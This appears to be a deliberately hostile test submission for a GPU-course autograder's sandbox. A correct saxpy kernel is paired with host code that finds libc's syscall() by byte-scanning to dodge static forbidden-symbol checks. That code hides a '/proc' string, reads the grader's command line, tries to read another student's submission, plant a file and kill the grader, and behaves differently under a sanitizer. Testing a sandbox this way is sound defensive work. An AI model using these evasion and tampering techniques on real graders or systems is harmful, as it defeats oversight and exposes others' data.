// Bad submission (issue 18): a correct saxpy whose host code, the first time it is called, goes
// around every rule of `make forbidden` (no forbidden symbol, no syscall instruction, no "/proc/"
// string in its object): it finds the C library's own syscall() by its bytes, between functions
// the rules allow, and calls it through a pointer. Then it tries what only the sandbox can stop: it reads the grader's command line from /proc to find the reports and the submissions,
// then tries to read another student's submission (off_by_one's, graded in the same batch) and
// the batch's record in the reports folder, to plant a file there, and to kill the grader (its
// parent process). Each attempt prints its outcome into the
// check's log ("attack ...: denied (errno 13)"). Under compute-sanitizer (the sanitize part's
// run, told by its own command line) it behaves.
// Expected, graded as root (the sandbox on): full marks, every attempt denied, no PWNED file
// anywhere in the reports, and the batch finished. Without the sandbox the attempts succeed:
// grading/gpu/expected.json marks it "requires": "root".
#include "saxpy.h"

#include "common/cuda_check.h"

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace saxpy {

namespace {

// libc's own syscall(), found without naming it: its first bytes (x86-64 glibc's
// sysdeps/unix/sysv/linux/x86_64/syscall.S: mov %rdi,%rax; mov %rsi,%rdi; mov %rdx,%rsi;
// mov %rcx,%rdx; mov %r8,%r10; mov %r9,%r8; mov 8(%rsp),%r9; syscall) searched for in the
// C library's code between functions the rules allow (their addresses are plain pointers).
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
    static const unsigned char prologue[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                             0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08};
    const void* allowed[] = {
        reinterpret_cast<const void*>(&std::printf),  reinterpret_cast<const void*>(&std::snprintf),
        reinterpret_cast<const void*>(&std::strlen),  reinterpret_cast<const void*>(&std::strcmp),
        reinterpret_cast<const void*>(&std::fflush),  reinterpret_cast<const void*>(&std::puts),
        reinterpret_cast<const void*>(&std::abort),   reinterpret_cast<const void*>(&std::qsort),
        reinterpret_cast<const void*>(&std::strtol),  reinterpret_cast<const void*>(&std::atoi),
        reinterpret_cast<const void*>(&std::rand),    reinterpret_cast<const void*>(&std::perror),
        reinterpret_cast<const void*>(&std::setvbuf), reinterpret_cast<const void*>(&std::memcpy),
        reinterpret_cast<const void*>(&std::strtod),  reinterpret_cast<const void*>(&std::getchar),
        reinterpret_cast<const void*>(&std::malloc),  reinterpret_cast<const void*>(&std::free)};
    const unsigned char* lo = static_cast<const unsigned char*>(allowed[0]);
    const unsigned char* hi = lo;
    for (const void* p : allowed) {
        const auto* b = static_cast<const unsigned char*>(p);
        if (b < lo) lo = b;
        if (b > hi) hi = b;
    }
    if (hi - lo > (64 << 20)) {  // not one library: give up rather than fault
        std::printf("attack: the C library's functions span %ld bytes: not one library\n", static_cast<long>(hi - lo));
        return nullptr;
    }
    for (const unsigned char* b = lo; b + sizeof prologue < hi; ++b)
        if (std::memcmp(b, prologue, sizeof prologue) == 0)
            return reinterpret_cast<Syscall>(const_cast<unsigned char*>(b));
    std::printf("attack: no syscall() among the %ld bytes of the C library searched\n", static_cast<long>(hi - lo));
    return nullptr;
}

long raw(long number, long a = 0, long b = 0, long c = 0, long d = 0) {
    static const Syscall call = find_syscall();
    if (call == nullptr) return -38;  // ENOSYS: not x86-64 glibc
    const long r = call(number, a, b, c, d);
    return r == -1 ? -static_cast<long>(errno) : r;
}
constexpr long kRead = 0, kWrite = 1, kClose = 3, kKill = 62, kGetppid = 110, kOpenat = 257, kAtCwd = -100;

// "/proc/<what>/cmdline", made at run time: no such string lies in the object.
void proc_path(char* out, std::size_t size, const char* what) {
    static volatile char shifted[] = {'0', 'q', 's', 'p', 'd', '0'};  // volatile: never folded back
    char proc[8] = {};
    for (std::size_t i = 0; i < sizeof shifted; ++i) proc[i] = static_cast<char>(shifted[i] - 1);
    std::snprintf(out, size, "%s%s/cmdline", proc, what);
}

void report(const char* what, const char* path, long result) {
    if (result < 0)
        std::printf("attack %s %s: denied (errno %ld)\n", what, path, -result);
    else
        std::printf("attack %s %s: SUCCEEDED (%ld)\n", what, path, result);
}

// The value after `option` in the NUL-separated command line, or "".
void option_value(const char* cmdline, long length, const char* option, char* value, std::size_t size) {
    value[0] = '\0';
    for (long i = 0; i < length;) {
        const char* arg = cmdline + i;
        const long next = i + static_cast<long>(std::strlen(arg)) + 1;
        if (std::strcmp(arg, option) == 0 && next < length) {
            std::snprintf(value, size, "%s", cmdline + next);
            return;
        }
        i = next;
    }
}

bool holds(const char* text, long length, const char* word) {
    const long w = static_cast<long>(std::strlen(word));
    for (long i = 0; i + w <= length; ++i)
        if (std::memcmp(text + i, word, w) == 0) return true;
    return false;
}

long read_file(const char* path, char* buffer, long size) {
    const long fd = raw(kOpenat, kAtCwd, reinterpret_cast<long>(path), 0 /* O_RDONLY */);
    if (fd < 0) return fd;
    const long got = raw(kRead, fd, reinterpret_cast<long>(buffer), size - 1);
    raw(kClose, fd);
    if (got >= 0) buffer[got] = '\0';
    return got;
}

void attack_once() {
    static bool done = false;
    if (done) return;
    done = true;
    char path[4096], cmdline[16384], reports[2048], submissions[2048], stolen[4096];
    // Under compute-sanitizer (the sanitize part runs the check with --max-size) it behaves.
    proc_path(path, sizeof path, "self");
    const long own = read_file(path, cmdline, sizeof cmdline);
    if (own == -38) {
        std::printf("attack: the C library's syscall() was not found: nothing tried\n");
        return;
    }
    if (own > 0 && holds(cmdline, own, "--max-size")) return;

    const long grader = raw(kGetppid);
    std::snprintf(stolen, sizeof stolen, "%ld", grader);
    proc_path(path, sizeof path, stolen);
    const long length = read_file(path, cmdline, sizeof cmdline);
    if (length > 0)
        std::printf("attack found the grader: %s (%ld bytes)\n", path, length);
    else
        std::printf("attack found the grader: %s unreadable (errno %ld): guessing the paths\n", path, -length);
    option_value(cmdline, length > 0 ? length : 0, "--output", reports, sizeof reports);
    option_value(cmdline, length > 0 ? length : 0, "--submissions", submissions, sizeof submissions);
    const bool told = reports[0] == '/';
    if (!told) std::snprintf(reports, sizeof reports, "../../../..");  // the tree in OUT/students/<me>/
    if (submissions[0] != '/') std::snprintf(submissions, sizeof submissions, "../../../../../submissions");

    std::snprintf(path, sizeof path, "%s/off_by_one/01_saxpy/saxpy_student.cu", submissions);
    report("read another student's submission", path, read_file(path, stolen, sizeof stolen));
    std::snprintf(path, sizeof path, "%s/batch.json", reports);
    const long record = read_file(path, stolen, sizeof stolen);
    report("read the batch's record", path, record);
    std::snprintf(path, sizeof path, "%s/PWNED-attacks_other_students", reports);
    if (told || record >= 0) {
        const long fd =
            raw(kOpenat, kAtCwd, reinterpret_cast<long>(path), 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */, 0644);
        report("plant a file in the reports", path, fd);
        if (fd >= 0) {
            raw(kWrite, fd, reinterpret_cast<long>("planted\n"), 8);
            raw(kClose, fd);
        }
    } else {
        std::printf("attack plant a file in the reports %s: not tried (no reports found there)\n", path);
    }
    std::snprintf(path, sizeof path, "process %ld", grader);
    report("kill the grader,", path, raw(kKill, grader, 9 /* SIGKILL */));
    std::fflush(stdout);
}

__global__ void saxpy_kernel(std::size_t n, float a, const float* x, const float* y, float* z) {
    const std::size_t i = blockIdx.x * static_cast<std::size_t>(blockDim.x) + threadIdx.x;
    if (i < n) z[i] = a * x[i] + y[i];
}

}  // namespace

void saxpy_student(std::size_t n, float a, const float* x, const float* y, float* z) {
    attack_once();
    if (n) saxpy_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(n, a, x, y, z);
    PMPP_CHECK_LAUNCH();
}

void saxpy_student_from_host(std::size_t n, float a, const float* x, const float* y, float* z) {
    float *dx = nullptr, *dy = nullptr, *dz = nullptr;
    const std::size_t bytes = n * sizeof(float);
    PMPP_CUDA_CHECK(cudaMalloc(&dx, bytes));
    PMPP_CUDA_CHECK(cudaMalloc(&dy, bytes));
    PMPP_CUDA_CHECK(cudaMalloc(&dz, bytes));
    PMPP_CUDA_CHECK(cudaMemcpy(dx, x, bytes, cudaMemcpyHostToDevice));
    PMPP_CUDA_CHECK(cudaMemcpy(dy, y, bytes, cudaMemcpyHostToDevice));
    saxpy_student(n, a, dx, dy, dz);
    PMPP_CUDA_CHECK(cudaMemcpy(z, dz, bytes, cudaMemcpyDeviceToHost));
    PMPP_CUDA_CHECK(cudaFree(dx));
    PMPP_CUDA_CHECK(cudaFree(dy));
    PMPP_CUDA_CHECK(cudaFree(dz));
}

}  // namespace saxpy
